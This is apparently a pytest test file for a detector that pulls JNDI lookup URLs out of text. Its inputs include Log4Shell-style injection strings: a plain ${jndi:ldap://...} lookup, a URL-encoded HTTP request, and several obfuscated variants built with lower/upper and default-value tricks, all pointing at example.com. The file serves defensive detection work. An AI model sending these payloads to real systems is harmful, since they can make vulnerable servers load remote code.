"""JNDI look-ups, plain and in disguise."""

import pytest

from cure.formats.jndi import looked_up


@pytest.mark.parametrize(
    "text",
    [
        "${jndi:ldap://example.com:1389/a}",
        "GET /?q=%24%7Bjndi%3Aldap%3A%2F%2Fexample.com%3A1389%2Fa%7D HTTP/1.1",
        "${${lower:J}ndi:${upper:l}dap://example.com:1389/a}",
        "${${::-j}${::-n}${::-d}${::-i}:ldap://example.com:1389/a}",
        "${${env:NONE:-j}ndi${env:NONE:-:}ldap://example.com:1389/a}",
        "${JNDI:LDAP://example.com:1389/a}",
    ],
)
def test_a_look_up_tells_its_url(text):
    assert [one.value.lower() for one in looked_up(text)] == ["ldap://example.com:1389/a"]


@pytest.mark.parametrize(
    "text",
    [
        "",
        "${java:version}",
        "jndi:ldap://example.com/a",
        "${jndi:ldap://10.0.0.1/a}",
        "${" * 9999,
        "${" + ":-" * 9999,
    ],
)
def test_other_texts_and_own_hosts_tell_none(text):
    assert looked_up(text) == []
